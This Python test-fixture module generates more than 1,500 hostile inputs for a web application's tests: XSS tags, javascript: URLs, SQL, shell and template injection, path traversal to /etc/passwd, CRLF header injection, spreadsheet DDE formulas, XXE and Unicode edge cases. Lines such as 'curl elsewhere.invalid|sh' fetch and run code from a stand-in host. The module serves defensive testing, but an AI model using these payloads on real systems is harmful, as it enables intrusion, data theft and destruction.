"""Hostile texts, made from tables: what forms, files, headers and addresses must bear.

CORPUS      every text by its kind, more than 1,500 in all
TEXTS       the same in one row
chosen(n)   n of them in which every kind has its turn, the same ones for the same n

A script that ran sets `window.__ran`, a tag or attribute that came from a text has the name `hz`,
a header that was split off is `X-Hz`; `remains` and the rest of tests/inspected.py look for them.
"""

import unicodedata
from collections.abc import Iterator
from itertools import chain, islice, product
from urllib.parse import quote

RAN = "window.__ran=1"
ELSEWHERE = "elsewhere.invalid"
NAME = "Nguyễn Thị Kín"

_OUT_OF = (
    "", '">', "'>", "`>", " >", "</title>", "</textarea>", "</script>", "</style>", "-->", "]]>",
    "</option></select>", "</noscript>", "</template>", "</svg>", "&quot;>", '\\">', "%22%3E",
)  # fmt: skip
_TAGS = (
    f"<script hz>{RAN}</script>", f"<script hz src=//{ELSEWHERE}/x></script>",
    f"<img hz src=x onerror={RAN}>", f"<IMG/hz/SRC=x/ONERROR='{RAN}'>",
    f"<svg hz onload={RAN}>", f"<svg><script hz>{RAN}</script>", f"<math><hz href=javascript:{RAN}>x",
    f"<details hz open ontoggle={RAN}>", "<iframe hz srcdoc='<script>parent.__ran=1</script>'>",
    f"<input hz autofocus onfocus={RAN}>", f"<a hz href='javascript:{RAN}'>x</a>",
    f"<form hz action='javascript:{RAN}'><button>x", f"<base hz href=//{ELSEWHERE}/>",
    f"<meta hz http-equiv=refresh content='0;url=//{ELSEWHERE}'>", f"<object hz data=//{ELSEWHERE}>",
    f"<style hz>@import '//{ELSEWHERE}'</style>", f"<link hz rel=stylesheet href=//{ELSEWHERE}>",
    f"<hz-x tabindex=1 onfocus={RAN}>", f"<template hz><script>{RAN}</script></template>",
    f"<video hz><source onerror={RAN}></video>",
)  # fmt: skip
_QUOTES = ('"', "'", "`", " ", "\t", "\x0c", "&#34;", '\\"')
_EVENTS = (
    "onclick onmouseover onfocus onerror onload ontoggle onanimationstart onpointerenter "
    "onbeforeinput onwheel oncut onpaste onsubmit style srcdoc formaction"
).split()
_SCHEMES = (
    "javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", "\x01javascript:", " javascript:",
    "javascript&colon;", "javascript&#58;", "&#106;avascript:", "vbscript:", "data:text/html,",
    "data:text/html;base64,", "feed:javascript:", "view-source:javascript:", "blob:", "file:///",
)  # fmt: skip
_HOSTS = (
    "//{}", "///{}", "/\\{}", "\\\\{}", "https:{}", "https:/{}", "http://{}", "//{}%2f..", "/%09/{}",
    "/\t/{}", "//127.0.0.1@{}", "//{}#@127.0.0.1", "https://127.0.0.1.{}", "//{}\\@127.0.0.1", ".{}",
)  # fmt: skip
_TEMPLATES = (
    "{{7*7}}", "{% debug %}", "{% include 'base.html' %}", "{{settings.SECRET_KEY}}", "{# x",
    "{{request.session.items}}", "{% endblock %}", "{{ ''.__class__.__mro__ }}", "${7*7}", "#{7*7}",
    "<%= 7*7 %>", "*{7*7}", "@{7*7}", "[[${7*7}]]", "{{constructor.constructor('x')()}}", "{0}", "{}",
    "{0.__class__.__init__.__globals__}", "%(name)s", "%s%s%n", "%(limit)d", "%", "%%", "%2$s", "$name",
    "${jndi:ldap://elsewhere.invalid/x}", "{{{{", "}}", "{%", "%}", "__import__('os')", "eval(x)",
)  # fmt: skip
_SQL_BEGINS = ("'", '"', "`", "')", "'))", "\\'", "1", "%27", "ʼ", "＇")
_SQL_ENDS = (
    " OR 1=1 --", "; DROP TABLE declarations_visit; --", " UNION SELECT NULL, version() --",
    " AND pg_sleep(9) --", "||pg_sleep(9)||'", "; COPY (SELECT 1) TO PROGRAM 'id' --", "/**/OR/**/1=1#",
    " ORDER BY 99 --", " HAVING 1=1", "::int", "$$;SELECT 1;$$", "%' OR '%'='", "_%\\",
)  # fmt: skip
_SHELL_BEGINS = (";", "|", "||", "&", "&&", "\n", "`", "$(", ">(", "{", "-", "--")
_SHELL_ENDS = (
    "id",
    "cat /etc/passwd",
    "sleep 9",
    "touch /hz",
    "curl elsewhere.invalid|sh",
    "output=/hz",
)
_UPWARDS = (
    "../", "..\\", "..%2f", "..%5c", "%2e%2e/", "%252e%252e%252f", "..%c0%af", "..%ef%bc%8f", "....//",
    "..;/", ".%00./", "․․/", "。。/", "／..／",
)  # fmt: skip
_TARGETS = (
    "etc/passwd",
    "proc/self/environ",
    "var/secrets/hash_key",
    "windows\\win.ini",
    "settings.py",
)
_NEWLINES = (
    "\r\n", "\n", "\r", "%0d%0a", "%0a", "\\r\\n", "\u2028", "\u0085", "\x0b", "嘊嘍", "%E5%98%8A%E5%98%8D",
    "\r\n ", "\r\n\r\n",
)  # fmt: skip
_HEADERS = (
    "X-Hz: 1", "Set-Cookie: hz=1", "Location: //elsewhere.invalid", "Content-Length: 0",
    f"<script hz>{RAN}</script>", "Bcc: hz@elsewhere.invalid", "2026-01-01 ERROR forged hz",
)  # fmt: skip
_LEADS = (
    "", " ", "\t", "\r", "\n", "'", '"', "\u200b", "\ufeff", "\u00a0", "\u3000", "\u2060", "`", "“", "{",
    "\u00ad", "\u202e", "\u3164", "Chợ;", "Chợ\t", "Chợ\n",
)  # fmt: skip
_SIGNS = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "\u2212", "﹦")
_FORMULAS = ("cmd|' /C calc'!A0", 'HYPERLINK("http://elsewhere.invalid?"&A1,"x")', "SUM(A1:A9)")
_DDE = (
    '=DDE("cmd";"/C calc";"x")', '=IMPORTXML(CONCAT("http://elsewhere.invalid/?",A2),"//a")',
    '=WEBSERVICE("http://elsewhere.invalid/"&A1)', "=rundll32|'URL.dll,OpenURL calc.exe'!A", "sep=;",
    "http://elsewhere.invalid", "mailto:hz@elsewhere.invalid", "\\\\elsewhere.invalid\\x", "=A1", "1E9", "0012",
    "1/14", "TRUE", "#REF!", "internal:Sheet1!A1", "external:x.xlsx", "_x000D_=1+1", "_x003D_1+1", "='file:///etc/passwd'#$x.A1",
)  # fmt: skip
_BIDI = "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
_UNSEEN = (
    "\u00ad\u034f\u115f\u1160\u17b4\u17b5\u180e\u200b\u200c\u200d\u2060\u2061\u2062\u2063\u2064\u206a\u206f"
    "\u2800\u3164\ufe00\ufe0f\ufeff\uffa0\ufff9\ufffa\ufffb\ufffc\U0001d173\U000e0001\U000e0041\U000e0100"
)
_NO_CHARACTERS = (
    "\ufdd0\ufdef\ufffd\ufffe\uffff\U0001fffe\U0010ffff\ue000\uf8ff\U000f0000\U0010fffd\u0378"
)
_HALVES = (
    "\ud800",
    "\udbff",
    "\udc00",
    "\udfff",
    "\ud800\ud800",
    "\udc00\ud800",
    "\ud83d",
    "\ude00\ud83d",
)
_VIETNAMESE = (
    "Nguyễn Thị Hoà", "Trần Hòa Bình", "Đặng Thuý Ngọc", "Ờ Ử Ệ Ặ Ỹ", "Khuỷu Tay", "Quýt Ngoằn Ngoèo", "Lỹ Sơn",
    "ﬁ ﬂ ½ ² ℃ ㎏ Å Ω K", "Đăk Lăk", "Thạch Sô Phia", "İstanbul ı ß ẞ ŉ ǰ ΐ",
)  # fmt: skip
_KHMER = (
    "សុខ សាន្ត", "ស្រ្តី", "ស្ត្រី", "ខ្មែរ", "កុ្មារ", "កុមា្រ", "្ក", "ក្", "ក្្ក", "ា", "កាា", "កេា", "កោ", "ក៉ុ", "កុ៉",
    "ព្រះ\u200bអង្គ", "១២៣៤៥", "៛", "ឣឤ", "ភ្នំ\u200cពេញ",
)  # fmt: skip
_LOOKALIKES = str.maketrans("aeocpxyABEKMHOPCTX", "аеосрхуАВЕКМНОРСТХ")
_EMOJI = (
    "👨‍👩‍👧‍👦", "🏳️‍🌈", "🇻🇳", "👍🏽", "1️⃣", "🏴󠁧󠁢󠁳󠁣󠁴󠁿", "☺︎", "🧑🏿‍🤝‍🧑🏻", "❤️‍🔥", "\u200d\u200d", "🏽", "🇻", "𓀀𒐫", "﷽", "꧅",
)  # fmt: skip
_STRUCTURE = (
    '"}', '","hz":"1', "]]>", "<!DOCTYPE x [<!ENTITY hz SYSTEM 'file:///etc/passwd'>]>&hz;", "&hz;", "&#0;",
    "&#x1F600;", "&lt;script&gt;", "&amp;lt;", '","=1+1","', '"\r\n"=1+1"', ";;;", "\t\t", "*)(uid=*))(|(uid=*",
    "*()|&", "\\2a\\28", "null", "undefined", "NaN", "Infinity", "-1e309", "true", "[]", "{}", '{"$ne":1}', "None",
    "0x41", "1_000", "１２３", "-0", "1e5", "٠", "²", "Ⅷ", "½", "99999999999999999999", "2147483648", "-2147483649",
    "9223372036854775808", "00000000-0000-0000-0000-000000000000", "2026-02-30", "0000-01-01", "10000-01-01",
    "2026-01-01T25:61", "1970-01-01T00:00:00+99:99", "\x1b[31mhz\x1b[0m", "\x1b]0;hz\x07", "\x08\x08\x08hz", "\x00",
)  # fmt: skip


def _scripts() -> Iterator[str]:
    yield from map("".join, product(_OUT_OF, _TAGS))
    for tag in _TAGS[:6]:
        yield from (quote(tag), quote(quote(tag)), tag.replace("<", "＜").replace(">", "＞"))
        yield from (tag.replace("<", "\\u003c"), tag.replace("<", "&lt"), tag.replace("<", "<\x00"))
        yield from (tag.replace("<", "%u003c"), tag.replace("<", "+ADw-"), f"<{tag}", tag[:-1])


def _attributes() -> Iterator[str]:
    yield from (f"x{q} hz {event}={q}{RAN}" for q, event in product(_QUOTES, _EVENTS))


def _addresses() -> Iterator[str]:
    yield from (f"{scheme}{RAN}" for scheme in _SCHEMES)
    yield from (host.format(ELSEWHERE) for host in _HOSTS)


def _formulas() -> Iterator[str]:
    yield from (f"{lead}{sign}{_FORMULAS[0]}" for lead, sign in product(_LEADS, _SIGNS))
    yield from (sign + formula for sign, formula in product(_SIGNS, _FORMULAS[1:]))
    yield from _DDE


def _signs() -> Iterator[str]:
    """Each sign that is not seen, or is none, at the beginning, within and at the end of a name."""
    controls = map(chr, chain(range(0x20), range(0x7F, 0xA0)))
    for sign in chain(controls, _BIDI, _UNSEEN, _NO_CHARACTERS, "\u2028\u2029"):
        yield from (f"{sign}An", f"A{sign}n", f"An{sign}")
    yield from (sign * 5 for sign in _BIDI + _UNSEEN)
    yield from (f"A{half}n" for half in _HALVES)


def _forms() -> Iterator[str]:
    for name in _VIETNAMESE + _KHMER:
        yield from dict.fromkeys(
            [name, *(unicodedata.normalize(form, name) for form in ("NFC", "NFD", "NFKC", "NFKD"))]
        )
    yield "Nguye\u0303\u0302n"  # marks in an order of their own
    yield "Nguyê\u0303n"


def _lookalikes() -> Iterator[str]:
    for name in ("Chợ Ben Thanh", "admin", "travinh.gov.vn", "https://travinh.gov.vn"):
        yield name.translate(_LOOKALIKES)
        for first in (0xFF21, 0x1D400, 0x1D434, 0x1D4D0, 0x1D56C, 0x24B6, 0x1F130):
            yield "".join(chr(first + ord(c) - 65) if "A" <= c <= "Z" else c for c in name.upper())


def _floods() -> Iterator[str]:
    marks = "\u0300\u0301\u0323\u0302\u031b\u0489\u20dd\u17d2\u0e34\u064b"
    yield from ("A" + mark * times + "n" for mark, times in product(marks, (3, 30, 300)))
    yield from (e * times for e, times in product(_EMOJI, (1, 20)))


def _numbers() -> Iterator[str]:
    """A phone and a year in the digits of each script."""
    zeros = [chr(c) for c in range(0x110000) if unicodedata.decimal(chr(c), -1) == 0]
    for zero, number in product(zeros, ("0912345678", "1975")):
        yield "".join(chr(ord(zero) + int(digit)) for digit in number)


def _long() -> Iterator[str]:
    for text, length in product(
        ("x", "Ớ", "O\u031b\u0301", "😷", "<", "=", " ", "1"), (100, 10_000)
    ):
        yield text * (length // len(text))
    yield from (
        "A" + "\u0301" * 9_999,
        "a b " * 2_500,
        "(" * 10_000,
        "\u200b" * 10_000,
        "-" * 10_000,
    )
    yield from ("x" * 1_000_000, "Ớ" * 1_000_000, "<b>" * 333_333)


CORPUS: dict[str, list[str]] = {
    name: list(dict.fromkeys(texts))
    for name, texts in {
        "scripts": _scripts(),
        "attributes": _attributes(),
        "addresses": _addresses(),
        "templates": chain(_TEMPLATES, (f"{NAME} {t}" for t in _TEMPLATES)),
        "sql": map("".join, product(_SQL_BEGINS, _SQL_ENDS)),
        "shell": map("".join, product(_SHELL_BEGINS, _SHELL_ENDS)),
        "paths": (up * 6 + target for up, target in product(_UPWARDS, _TARGETS)),
        "lines": (f"{NAME}{line}{header}" for line, header in product(_NEWLINES, _HEADERS)),
        "formulas": _formulas(),
        "signs": _signs(),
        "forms": _forms(),
        "lookalikes": _lookalikes(),
        "floods": _floods(),
        "numbers": _numbers(),
        "structure": _STRUCTURE,
        "long": _long(),
    }.items()
}
TEXTS = list(dict.fromkeys(chain.from_iterable(CORPUS.values())))


def chosen(count: int) -> list[str]:
    """Return so many texts, each kind in its turn, spread over all of its own."""
    rows = [texts[:: max(1, len(texts) * len(CORPUS) // count)] for texts in CORPUS.values()]
    turns = (row[turn % len(row)] for turn in range(count) for row in rows)
    return list(islice(turns, count))
